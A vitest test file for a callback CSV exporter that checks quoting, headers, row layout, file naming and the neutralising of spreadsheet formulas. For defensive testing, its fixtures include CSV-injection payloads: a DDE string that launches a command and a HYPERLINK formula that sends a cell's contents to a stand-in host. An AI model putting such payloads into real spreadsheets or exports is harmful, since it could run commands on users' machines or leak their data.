import { describe, expect, it } from 'vitest';
import type { Callback } from '../../core/api/model';
import { BOM, CSV_COLUMNS, csvCell, csvFileName, csvHeader, csvRow, csvRows, neutralise } from './csv';

function callback(over: Partial<Callback> = {}): Callback {
  return {
    id: '1', leadId: '2', listId: '3', campaignId: '4', userId: '5',
    stage: 'pending', stageLabel: 'Pending', recipient: 'system', recipientLabel: 'System',
    callbackTime: { local: '2025-06-03T15:00:00' }, createdAt: { local: '2025-06-01T09:30:00' }, modifiedAt: null, seenAt: null,
    status: 'CALLBK', statusName: 'Call Back', userName: 'Ann', campaignName: 'Solar', campaignType: 'OUTBOUND',
    directoryName: '', comments: '', context: '', raw: {},
    ...over,
  };
}

describe('csvCell: RFC 4180 quoting', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\nbreak', '"line\nbreak"'],
    ['crlf\r\nin the middle', '"crlf\r\nin the middle"'],
    ['naïve — ünïcode ✓', 'naïve — ünïcode ✓'],
  ])('%j → %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });
});

describe('formula neutralising', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+15551234', "'+15551234"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', "'\rcmd"],
    ['a=1', 'a=1'],
    [' =1', ' =1'],
    ["'quoted", "'quoted"],
  ])('%j → %j', (input, expected) => {
    expect(neutralise(input)).toBe(expected);
  });

  it('neutralises before quoting, so a formula with a comma stays one inert cell', () => {
    expect(csvCell('=HYPERLINK("http://x/?"&A1,"click")')).toBe('"\'=HYPERLINK(""http://x/?""&A1,""click"")"');
    expect(csvCell('\r=1')).toBe('"\'\r=1"');
  });
});

describe('rows and header', () => {
  it('starts with a UTF-8 byte-order mark and one header per column, CRLF line ends', () => {
    const header = csvHeader();
    expect(header.startsWith(BOM)).toBe(true);
    expect(header.endsWith('\r\n')).toBe(true);
    expect(header.slice(1, -2).split(',')).toEqual(CSV_COLUMNS.map((c) => c.header));
  });

  it('writes one row per callback with sortable times and empty cells for missing ones', () => {
    const text = csvRows([callback(), callback({ id: '9', comments: '=cmd|" /C calc"!A0', callbackTime: null })]);
    const lines = text.split('\r\n');
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe('');
    const first = lines[0]!.split(',');
    expect(first[CSV_COLUMNS.findIndex((c) => c.header === 'Callback time')]).toBe('2025-06-03 15:00:00');
    expect(first[CSV_COLUMNS.findIndex((c) => c.header === 'Created at')]).toBe('2025-06-01 09:30:00');
    expect(first[CSV_COLUMNS.findIndex((c) => c.header === 'Modified at')]).toBe('');
    expect(lines[1]).toContain('"\'=cmd|"" /C calc""!A0"');
  });

  it('csvRow joins cells with commas', () => {
    expect(csvRow(['a', 'b,c', '-1'])).toBe('a,"b,c",\'-1\r\n');
  });

  it('names the file after the browser clock', () => {
    expect(csvFileName(new Date(2025, 5, 3, 9, 5))).toBe('callbacks-2025-06-03-0905.csv');
  });
});
